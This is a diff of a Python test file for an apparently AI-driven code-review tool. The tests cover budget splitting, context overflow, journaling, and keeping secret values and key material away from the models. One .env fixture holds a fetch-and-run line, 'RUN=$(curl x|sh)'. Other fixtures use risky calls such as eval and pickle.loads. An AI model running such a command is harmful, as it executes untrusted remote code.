@@ -14,10 +14,11 @@ from reviewbot.agents.subagents import AgentsReview, review_with_agents
 from reviewbot.change.changeset import load_change_set
 from reviewbot.change.git import Repository
 from reviewbot.claims import Stop
-from reviewbot.core import Evidence, Severity
+from reviewbot.core import Evidence, Location, Severity
 from reviewbot.journal import Journal
 from reviewbot.testing import BEHAVIOURS, ScriptedModel, Turn
 from tests.repositories import Sandbox
+from tests.test_secret_shapes import BODY, LAST
 
 Json = Mapping[str, Any]
 
@@ -135,7 +136,7 @@ def test_a_file_that_triage_leaves_out_is_asked_for_once_more_in_a_smaller_batch
     base, head = change(sandbox, {f"src/{name}.py": QUIET for name in "abcd"})
 
     def forgetful(body: Json) -> Turn:
-        again = "left them out" in json.dumps(body)
+        again = "an earlier answer left" in json.dumps(body)
         return BEHAVIOURS["reader"](body) if again else without(body, "src/b.py", "src/d.py")
 
     with ScriptedModel(behave(haiku=forgetful)) as model:
@@ -180,9 +181,8 @@ def test_an_agent_that_does_not_answer_leaves_its_files_unread_and_the_others_fi
     agent = {"haiku": "triage", "opus": "security", "sonnet": "test_fix"}[broken]
     ends = {out.task.agent: out.stop for out in found.outcomes}
     assert ends[agent] is stop
-    assert {name for name, end in ends.items() if end is Stop.DONE} == {"triage", "security", "test_fix"} - {
-        agent
-    }
+    others = {"triage", "security", "test_fix", *(["verify"] if broken != "opus" else [])}
+    assert {name for name, end in ends.items() if end is Stop.DONE} == others - {agent}
     unread = {"haiku": {"app/area.py"}, "opus": {"app/run.py"}, "sonnet": set()}[broken]
     assert set(found.failed) == unread
     assert [gap.code for gap in found.gaps] == [code]
@@ -232,7 +232,7 @@ def big_change(sandbox: Sandbox) -> tuple[str, str]:
 def test_a_change_too_large_for_one_task_is_split_and_its_tasks_share_the_prefix(sandbox: Sandbox) -> None:
     base, head = big_change(sandbox)
     with ScriptedModel("reader") as model:
-        found = review(sandbox, base, head, model)
+        found = review(sandbox, base, head, model, budget_usd=20)
     assert model.refused == []
     tasks = [out.task for out in found.outcomes if out.task.agent == "security"]
     assert len(tasks) > 2
@@ -301,14 +301,21 @@ def test_requests_keep_their_prefix_and_at_most_four_marks(sandbox: Sandbox) -> 
         assert "cache_control" in served.body["system"][-1]
 
 
-def test_files_of_secrets_are_shown_to_no_model_and_named(sandbox: Sandbox) -> None:
-    base, head = change(sandbox, {".env": "TOKEN=hunter2hunter2\n", "app/run.py": RISKY})
+def test_values_of_settings_are_shown_to_no_model_and_files_of_key_material_are_named(
+    sandbox: Sandbox,
+) -> None:
+    key = "\n".join(("-----BEGIN CERTIFICATE-----", *BODY, LAST, "-----END CERTIFICATE-----", ""))
+    files = {".env": "TOKEN=hunter2hunter2\nRUN=$(curl x|sh)\n", "ca.pem": key, "app/run.py": RISKY}
+    base, head = change(sandbox, files)
     with ScriptedModel("reader") as model:
         found = review(sandbox, base, head, model)
-    assert "hunter2" not in json.dumps([served.body for served in model.requests])
-    assert found.withheld == (".env",)
-    assert any(".env" in note for note in found.notes)
-    assert ".env" not in {*found.reviewed, *found.triaged, *found.failed}
+    said = json.dumps([served.body for served in model.requests])
+    assert "TOKEN=********" in said and "RUN=$(curl x|sh)" in said
+    assert "hunter2" not in said and BODY[0] not in said
+    assert found.withheld == ("ca.pem",)
+    assert any("ca.pem" in note for note in found.notes)
+    assert "ca.pem" not in {*found.reviewed, *found.triaged, *found.failed}
+    assert ".env" in {*found.reviewed, *found.triaged}
 
 
 def test_excluded_files_and_files_without_lines_are_asked_of_nobody(sandbox: Sandbox) -> None:
@@ -352,6 +359,10 @@ def test_the_journal_says_where_each_file_went_and_holds_no_code(sandbox: Sandbo
         "app/run.py": "security", "app/area.py": "nobody",
     }  # fmt: skip
     assert b"shell=True" not in journal.data()
+    routed = {record["path"]: record for record in records if record["event"] == "routed"}
+    assert set(routed["app/run.py"]) - {"at", "event", "time", "seconds"} == {"path", "to", "risk", "signals"}
+    assert (routed["app/run.py"]["risk"], routed["app/run.py"]["signals"]) == ("high", ["command", "import"])
+    assert (routed["app/area.py"]["risk"], routed["app/area.py"]["signals"]) == ("low", [])
 
 
 def test_an_agent_may_have_a_model_of_its_own(sandbox: Sandbox) -> None:
@@ -418,7 +429,7 @@ def test_a_batch_that_did_better_the_second_time_leaves_no_gap(sandbox: Sandbox)
     base, head = change(sandbox, {f"doc/{name}.md": "Four sides.\n" for name in "abc"})
 
     def haiku(body: Json) -> Turn:
-        return BEHAVIOURS["reader" if "left them out" in json.dumps(body) else "refuser"](body)
+        return BEHAVIOURS["reader" if "an earlier answer left" in json.dumps(body) else "refuser"](body)
 
     with ScriptedModel(behave(haiku=haiku)) as model:
         found = review(sandbox, base, head, model)
@@ -442,3 +453,210 @@ def test_a_fan_out_waits_until_its_first_call_has_filled_the_cache(sandbox: Sand
     with ScriptedModel(behave(opus=opus)) as model:
         review(sandbox, base, head, model)
     assert before_first_reply == [1] and len(arrived) > 2
+
+
+def scan(sandbox: Sandbox, files: Mapping[str, str]) -> tuple[str, str]:
+    """The whole tree as a change, as a scan reads it."""
+    head = sandbox.commit(files)
+    return sandbox.git("hash-object", "-t", "tree", "/dev/null"), head
+
+
+def risky_tree() -> dict[str, str]:
+    plain = "".join(f"def area{n}(width, height):\n    return width * height + {n}\n\n\n" for n in range(90))
+    risky = {f"p{n}/run.py": RISKY + plain for n in range(30)}
+    return {**risky, "top/worst.py": RISKY + "eval(name)\npickle.loads(name)\nyaml.load(name)\n" + plain}
+
+
+@pytest.mark.parametrize(("budget_usd", "least"), [(0.30, 0.7), (0.20, 0.6)])
+def test_a_small_budget_is_spent_on_the_riskiest_files_and_never_passed(
+    sandbox: Sandbox, budget_usd: float, least: float
+) -> None:
+    base, head = scan(sandbox, risky_tree())
+    with ScriptedModel("skipper") as model:
+        found = review(sandbox, base, head, model, budget_usd=budget_usd)
+    assert model.refused == []
+    assert least * budget_usd <= found.spent_usd <= budget_usd
+    assert "top/worst.py" in found.reviewed
+    assert 4 <= len(found.reviewed) < 31
+    assert set(found.failed.values()) == {"security: the budget was used up"}
+    assert set(found.causes.values()) == {"budget"}
+    assert [gap.code for gap in found.gaps] == ["budget"] and "$" not in found.gaps[0].detail
+    [unread] = [out for out in found.outcomes if out.stop is Stop.USD]
+    assert set(unread.task.paths) == set(found.failed) and "$" in unread.detail
+    triage = sum(out.usd or 0 for out in found.outcomes if out.task.agent == "triage")
+    assert triage <= budget_usd / 3
+
+
+def test_triage_leaves_two_thirds_of_the_money_to_security(sandbox: Sandbox) -> None:
+    lines = "".join(f"colour_{n} = {n} + {n} + {n} + {n} + {n} + {n} + {n}\n" for n in range(3_000))
+    base, head = scan(sandbox, {**{f"q{n}/x.py": lines for n in range(20)}, "p/run.py": RISKY})
+    with ScriptedModel("skipper") as model:
+        found = review(sandbox, base, head, model, budget_usd=0.15)
+    triage = sum(out.usd or 0 for out in found.outcomes if out.task.agent == "triage")
+    assert 0 < triage <= 0.05
+    assert found.reviewed == {"p/run.py": ("triage", "security")}
+    assert set(found.failed.values()) == {"triage: the budget was used up"}
+
+
+@pytest.mark.parametrize("stop", ["truncator", "invalid"])
+def test_a_task_that_ends_in_a_cut_or_an_invalid_answer_is_asked_again_in_halves_once(
+    sandbox: Sandbox, stop: str
+) -> None:
+    base, head = change(sandbox, {f"app/run{n}.py": RISKY for n in range(4)})
+
+    def opus(body: Json) -> Turn:
+        return BEHAVIOURS[stop if len(headers(body)) > 2 else "skipper"](body)
+
+    with ScriptedModel(behave(opus=opus)) as model:
+        found = review(sandbox, base, head, model, budget_usd=5)
+    sizes = [len(out.task.paths) for out in found.outcomes if out.task.agent == "security"]
+    assert sizes == [4, 2, 2]
+    assert found.failed == {} and found.gaps == () and len(found.reviewed) == 4
+    with ScriptedModel(behave(opus=BEHAVIOURS[stop])) as model:
+        found = review(sandbox, base, head, model, budget_usd=5)
+    sizes = [len(out.task.paths) for out in found.outcomes if out.task.agent == "security"]
+    assert sizes == [4, 2, 2] and len(found.failed) == 4
+    why = {"truncator": "cut", "invalid": "form"}[stop]
+    assert all(why in reason for reason in found.failed.values())
+
+
+def test_three_hundred_risky_files_are_read_in_tasks_of_at_most_thirty(sandbox: Sandbox) -> None:
+    base, head = change(sandbox, {f"d{n % 7}/run{n}.py": "eval(name)\n" for n in range(70)})
+    with ScriptedModel("skipper") as model:
+        found = review(sandbox, base, head, model)
+    sizes = [len(out.task.paths) for out in found.outcomes if out.task.agent == "security"]
+    assert max(sizes) <= 30 and sum(sizes) == 70
+
+
+def test_the_end_of_a_deleted_file_is_read_by_triage_or_called_unread(sandbox: Sandbox) -> None:
+    guards = "".join(f"def check{n}(token):\n    assert token\n" for n in range(500))
+    base = sandbox.commit({"auth.py": guards, "README.md": "# A\n"})
+    sandbox.git("rm", "-q", "auth.py")
+    head = sandbox.commit({"README.md": "# B\n"})
+    with ScriptedModel("skipper") as model:
+        found = review(sandbox, base, head, model)
+    assert any("check499" in json.dumps(body) for body in asked(model, "haiku"))
+    assert found.reviewed["auth.py"] == ("triage", "security")
+    assert "The last 400 lines of a deleted file were read by triage and not by security." in found.notes
+    with ScriptedModel(behave(haiku=BEHAVIOURS["refuser"], opus=BEHAVIOURS["skipper"])) as model:
+        found = review(sandbox, base, head, model)
+    assert found.failed["auth.py"] == "400 of 1,000 deleted lines were shown to no agent"
+
+
+def test_a_security_result_of_a_program_sends_its_file_to_security(sandbox: Sandbox) -> None:
+    base, head = change(sandbox, {"app/area.py": QUIET, "app/other.py": QUIET})
+    sarif = replace(
+        failing(1), id="s", source="sarif", tool="scanner", trace="", location=Location("app/area.py", 2, 2)
+    )
+    with ScriptedModel("skipper") as model:
+        found = review(sandbox, base, head, model, evidence=(sarif,))
+    assert found.reviewed == {"app/area.py": ("triage", "security")}
+    assert set(found.triaged) == {"app/other.py"}
+
+
+def test_the_reason_that_ends_the_asking_is_said_once(sandbox: Sandbox) -> None:
+    base, head = change(sandbox, {f"p{n}/run.py": "eval(name)\n" * 2_000 for n in range(6)})
+    with ScriptedModel("reader", key="another") as model:
+        found = review(sandbox, base, head, model, evidence=(failing(1),))
+    assert max(out.detail.count("Not asked") for out in found.outcomes) == 1
+    assert set(found.failed.values()) == {"security: the provider refused the credentials"}
+
+
+def test_triage_is_told_what_is_known_of_the_tests(sandbox: Sandbox) -> None:
+    base, head = change(sandbox, {"app/area.py": QUIET})
+    for evidence, said in (((), "No test is known"), ((failing(1), failing(2)), "2 tests of this change")):
+        with ScriptedModel("reader") as model:
+            review(sandbox, base, head, model, evidence=evidence)
+        [body] = asked(model, "haiku")
+        assert said in body["messages"][0]["content"][-1]["text"]
+
+
+def overflowing(times: int) -> Callable[[Json], bool]:
+    """Says of the first requests to the security agent that they are too long."""
+    seen: list[int] = []
+
+    def claims(body: Json) -> bool:
+        if tier(body) != "opus" or len(seen) >= times:
+            return False
+        seen.append(1)
+        return True
+
+    return claims
+
+
+TWO_FILES = {"app/run.py": RISKY * 20, "lib/run.py": RISKY * 20}
+
+
+def test_a_task_that_does_not_fit_the_models_context_is_split_once_and_asked_again(sandbox: Sandbox) -> None:
+    base, head = change(sandbox, TWO_FILES)
+    with ScriptedModel("reader", faults={overflowing(1): "context"}) as model:
+        found = review(sandbox, base, head, model)
+    assert model.refused == []
+    security = [out for out in found.outcomes if out.task.agent == "security"]
+    assert sorted((out.stop, out.task.paths) for out in security) == [
+        (Stop.CONTEXT, ("app/run.py", "lib/run.py")),
+        (Stop.DONE, ("app/run.py",)),
+        (Stop.DONE, ("lib/run.py",)),
+    ]
+    assert found.gaps == () and found.failed == {} and found.causes == {}
+    assert set(found.reviewed) == set(TWO_FILES)
+    assert found.spent_usd == pytest.approx(sum(served.usd for served in model.requests), abs=1e-9)
+
+
+def test_the_half_that_does_not_fit_either_is_unread_and_named_and_not_split_again(sandbox: Sandbox) -> None:
+    base, head = change(sandbox, TWO_FILES)
+    with ScriptedModel("reader", faults={overflowing(2): "too_large"}) as model:
+        found = review(sandbox, base, head, model)
+    assert len([out for out in found.outcomes if out.task.agent == "security"]) == 3
+    [lost] = found.failed
+    assert set(found.reviewed) == set(TWO_FILES) - {lost}
+    assert found.causes == {lost: "context"}
+    assert [gap.code for gap in found.gaps] == ["context"]
+    assert found.gaps[0].detail.startswith("security: 1 file was not reviewed.")
+
+
+def test_what_cannot_be_split_ends_as_context(sandbox: Sandbox) -> None:
+    base, head = change(sandbox, {"app/run.py": RISKY})
+    with ScriptedModel("reader", faults={overflowing(9): "context"}) as model:
+        found = review(sandbox, base, head, model)
+    assert len([out for out in found.outcomes if out.task.agent == "security"]) == 1
+    assert set(found.failed) == {"app/run.py"}
+    assert [gap.code for gap in found.gaps] == ["context"]
+
+
+def test_failed_tests_that_do_not_fit_are_explained_in_halves(sandbox: Sandbox) -> None:
+    base, head = change(sandbox, {"area.py": QUIET.replace("*", "+")}, {"area.py": QUIET})
+    evidence = tuple(failing(number, f"{'x' * number} is wrong") for number in range(1, 4))
+    seen: list[int] = []
+
+    def first(body: Json) -> bool:
+        seen.extend([1] * (tier(body) == "sonnet"))
+        return tier(body) == "sonnet" and len(seen) == 1
+
+    with ScriptedModel("reader", faults={first: "context"}) as model:
+        found = review(sandbox, base, head, model, evidence=evidence)
+    tasks = [out for out in found.outcomes if out.task.agent == "test_fix"]
+    assert [(out.stop, out.task.evidence_ids) for out in tasks] == [
+        (Stop.CONTEXT, ("junit:1", "junit:2", "junit:3")),
+        (Stop.DONE, ("junit:1", "junit:2")),
+        (Stop.DONE, ("junit:3",)),
+    ]
+    assert found.gaps == ()
+
+
+def test_an_agent_whose_answers_needed_more_effort_is_marked_degraded(sandbox: Sandbox) -> None:
+    base, head = change(sandbox, {"app/area.py": QUIET})
+    asked_before: list[int] = []
+
+    def haiku(body: Json) -> Turn:
+        asked_before.append(1)
+        return BEHAVIOURS["reader" if len(asked_before) > 2 else "invalid"](body)
+
+    with ScriptedModel(behave(haiku=haiku)) as model:
+        found = review(sandbox, base, head, model)
+    assert model.refused == []
+    [outcome] = found.outcomes
+    assert (outcome.stop, outcome.turns, outcome.degraded, outcome.effort) == (Stop.DONE, 3, True, "high")
+    efforts = [body["output_config"]["effort"] for body in asked(model, "haiku")]
+    assert efforts == ["medium", "medium", "high"]
+    assert found.spent_usd == pytest.approx(sum(served.usd for served in model.requests), abs=1e-9)
